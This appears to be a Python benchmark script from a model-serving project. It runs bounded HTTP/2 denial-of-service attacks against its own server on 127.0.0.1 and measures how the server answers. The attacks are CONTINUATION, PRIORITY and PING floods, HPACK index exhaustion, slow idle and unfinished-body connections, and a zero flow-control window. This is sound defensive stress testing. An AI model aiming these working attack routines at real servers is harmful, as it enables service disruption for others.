"""The issue-20 HTTP/2 attacks against a real `moorings serve`, with grpcio's or the own gRPC front end.

Each attack is bounded (frames, connections, seconds) and targets 127.0.0.1 only. Printed per
attack: how the server answered (GOAWAY code, reset, close), after how many frames or seconds,
the server's RSS before/after and its CPU seconds, and REST predict latency while it ran.

    .venv/bin/python -m benchmarks.hostile.http2_attacks --grpc-server grpcio
    .venv/bin/python -m benchmarks.hostile.http2_attacks --grpc-server moorings
    (--quick skips the 70 s waits of the time-limit attacks; --only-timed runs only those)
"""

from __future__ import annotations

import argparse
import os
import socket
import struct
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

import httpx
from tests.support import onnx_models
from tests.support.server import RunningServer, running_server

from moorings.http2 import frames as f
from moorings.http2.header_blocks import indexed, literal, literal_static_name

HZ = os.sysconf("SC_CLK_TCK")
INDEX_BLOCK = bytes(0x81 + i % 7 for i in range(1300))


def grpc_headers(method: str) -> bytes:
    """A gRPC request's header block for ``/inference.GRPCInferenceService/<method>``."""
    return (
        indexed(3)  # :method POST
        + indexed(6)  # :scheme http
        + literal_static_name(4, f"/inference.GRPCInferenceService/{method}".encode())
        + literal_static_name(1, b"127.0.0.1")
        + literal_static_name(31, b"application/grpc")
        + literal(b"te", b"trailers")
    )


GRPC_HEADERS = grpc_headers("ModelInfer")
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / HZ


class Conn:
    """A raw HTTP/2 client connection that notices the server's GOAWAY, resets and close."""

    def __init__(self, port: int, settings: dict[int, int] | None = None) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sock.sendall(f.PREFACE + f.settings(settings or {}))
        self.buffer = b""
        self.goaway: int | None = None
        self.resets: dict[int, int] = {}
        self.closed = False
        self.sent = 0

    def poll(self, timeout: float = 0.0) -> None:
        """Read what the server sent (up to ``timeout`` s for the first bytes)."""
        self.sock.settimeout(timeout if timeout > 0 else 0.0001)
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    self.closed = True
                    break
                self.buffer += chunk
                self.sock.settimeout(0.0001)
        except (TimeoutError, BlockingIOError):
            pass
        except (ConnectionResetError, OSError):
            self.closed = True
        while len(self.buffer) >= 9:
            length_type, flags, stream_id = f.HEAD.unpack_from(self.buffer)
            end = 9 + (length_type >> 8)
            if len(self.buffer) < end:
                break
            kind, payload = length_type & 0xFF, self.buffer[9:end]
            self.buffer = self.buffer[end:]
            if kind == f.SETTINGS and not flags & f.ACK:
                self.send(f.frame(f.SETTINGS, f.ACK, 0), 0)  # as every client does
            elif kind == f.PING and not flags & f.ACK:
                self.send(f.frame(f.PING, f.ACK, 0, payload), 0)
            elif kind == f.GOAWAY:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            elif kind == f.RST_STREAM:
                self.resets[stream_id & 0x7FFFFFFF] = struct.unpack(">I", payload)[0]

    def send(self, data: bytes, frames: int = 1) -> bool:
        try:
            self.sock.settimeout(5)
            self.sock.sendall(data)
        except OSError:
            self.closed = True
            return False
        self.sent += frames
        return True

    def close(self) -> None:
        self.sock.close()


class RestProbe:
    """Sequential REST predicts on a thread; latencies in ms."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.latencies: list[float] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        with httpx.Client(timeout=30) as client:
            while not self._stop.is_set():
                started = time.perf_counter()
                response = client.post(self.url, json={"instances": [[0.1, 0.2, 0.3, 0.4]]})
                response.raise_for_status()
                self.latencies.append((time.perf_counter() - started) * 1000)

    def __enter__(self) -> RestProbe:
        self._thread.start()
        while not self.latencies and self._thread.is_alive():
            time.sleep(0.005)  # the client is connected and warm before the attack starts
        self.latencies.clear()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join(60)

    def summary(self) -> str:
        values = sorted(self.latencies)
        if not values:
            return "REST: no answer"
        p50, p99 = values[len(values) // 2], values[min(len(values) - 1, int(len(values) * 0.99))]
        return f"REST predict p50 {p50:.1f} ms, p99 {p99:.1f} ms ({len(values)} calls)"


def flood(port: int, opening: bytes, frame: bytes, limit: int = 2_000_000, seconds: float = 10.0) -> str:
    conn = Conn(port)
    conn.send(opening)
    batch, started = 1000, time.monotonic()
    while conn.sent < limit and time.monotonic() - started < seconds:
        if not conn.send(frame * batch, batch):
            break
        conn.poll()
        if conn.goaway is not None or conn.closed:
            break
    conn.poll(1.0)
    took = time.monotonic() - started
    conn.close()
    return f"{conn.sent} frames sent in {took:.1f} s; GOAWAY {conn.goaway}, closed {conn.closed}"


def hpack_attack(port: int, connections: int = 100, blocks: int = 64) -> str:
    conns = [Conn(port) for _ in range(connections)]
    for conn in conns:
        conn.send(b"".join(f.frame(f.HEADERS, 0x5, 2 * i + 1, INDEX_BLOCK) for i in range(blocks)), blocks)
    time.sleep(1.0)
    for conn in conns:
        conn.poll(0.2)
    codes = sorted({str(c.goaway) for c in conns})
    for conn in conns:
        conn.close()
    return f"{connections} x {blocks} blocks of 1,300 indices; GOAWAY codes {codes}"


def wait_for(conn: Conn, check: Callable[[Conn], bool], seconds: float) -> str:
    started = time.monotonic()
    while time.monotonic() - started < seconds:
        conn.poll(0.5)
        if check(conn):
            codes = sorted(set(conn.resets.values()))
            took = time.monotonic() - started
            return f"answered after {took:.1f} s (GOAWAY {conn.goaway}, {len(conn.resets)} resets {codes})"
    return f"nothing after {seconds:.0f} s (still open: {not conn.closed})"


def timed_attacks(port: int, seconds: float) -> dict[str, str]:
    """Idle connection, unfinished body, zero window: run at once, each on its own thread."""
    results: dict[str, str] = {}

    def idle() -> None:
        conn = Conn(port)
        results["idle connection"] = wait_for(conn, lambda c: c.goaway is not None or c.closed, seconds)
        conn.close()

    def body() -> None:
        conn = Conn(port)
        message_head = b"\x00" + (30 << 20).to_bytes(4, "big")  # a 30 MiB message, of which 16 kB come
        conn.send(
            f.frame(f.HEADERS, f.END_HEADERS, 1, GRPC_HEADERS)
            + f.frame(f.DATA, 0, 1, message_head + b"\x00" * 16000)
        )
        results["unfinished body"] = wait_for(conn, lambda c: bool(c.resets) or c.closed, seconds)
        conn.close()

    def window() -> None:
        conn = Conn(port, {f.INITIAL_WINDOW_SIZE: 0})
        frames = b"".join(
            f.frame(f.HEADERS, f.END_HEADERS, 2 * i + 1, grpc_headers("ServerLive"))
            + f.frame(f.DATA, f.END_STREAM, 2 * i + 1, EMPTY_MESSAGE)  # the answer has a message
            for i in range(256)
        )
        conn.send(frames)
        results["zero window, 256 calls"] = wait_for(conn, lambda c: bool(c.resets) or c.closed, seconds)
        conn.close()

    threads = [threading.Thread(target=t) for t in (idle, body, window)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results


def closed_stream(port: int) -> str:
    conn = Conn(port)
    conn.send(f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, 1, GRPC_HEADERS))
    time.sleep(0.5)
    conn.send(f.frame(f.HEADERS, f.END_HEADERS | f.END_STREAM, 1, GRPC_HEADERS))
    conn.poll(1.0)
    conn.close()
    return f"GOAWAY {conn.goaway}, resets {conn.resets}, closed {conn.closed}"


def run(server: RunningServer, quick: bool) -> None:
    pid, port = server.process.pid, server.grpc_port
    predict = f"{server.url}/v1/models/mlp:predict"

    def measured(name: str, attack: Callable[[], str]) -> None:
        rss, cpu = rss_mib(pid), cpu_seconds(pid)
        with RestProbe(predict) as probe:
            outcome = attack()
        time.sleep(1.0)
        print(
            f"{name}: {outcome}\n    RSS {rss:.0f} -> {rss_mib(pid):.0f} MiB, "
            f"server CPU {cpu_seconds(pid) - cpu:.1f} s, {probe.summary()}",
            flush=True,
        )

    headers_open = f.frame(f.HEADERS, 0, 1, GRPC_HEADERS)  # no END_HEADERS
    measured("CONTINUATION flood", lambda: flood(port, headers_open, bytes.fromhex("000000090000000001")))
    measured("PRIORITY flood", lambda: flood(port, b"", f.frame(f.PRIORITY, 0, 1, b"\x00\x00\x00\x00\x10")))
    measured("unknown-type flood", lambda: flood(port, b"", f.frame(0x42, 0, 1, b"x" * 8)))
    measured("PING flood", lambda: flood(port, b"", f.frame(f.PING, 0, 0, b"12345678")))
    measured("HPACK indices", lambda: hpack_attack(port))
    measured("HEADERS on a closed stream", lambda: closed_stream(port))
    if not quick:
        for name, outcome in timed_attacks(port, 70.0).items():
            print(f"{name}: {outcome}", flush=True)
        print(f"RSS after everything: {rss_mib(pid):.0f} MiB", flush=True)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--grpc-server", choices=["grpcio", "moorings"], required=True)
    parser.add_argument("--quick", action="store_true", help="skip the time-limit attacks (70 s)")
    parser.add_argument("--only-timed", action="store_true", help="only the time-limit attacks")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as folder:
        repo = Path(folder) / "repo"
        onnx_models.write_mlp(repo / "mlp" / "1")
        with running_server(repo, "--grpc-server", args.grpc_server) as server:
            print(f"gRPC front end: {args.grpc_server}; server pid {server.process.pid}", flush=True)
            if args.only_timed:
                for name, outcome in timed_attacks(server.grpc_port, 70.0).items():
                    print(f"{name}: {outcome}", flush=True)
            else:
                run(server, args.quick)


if __name__ == "__main__":
    main()
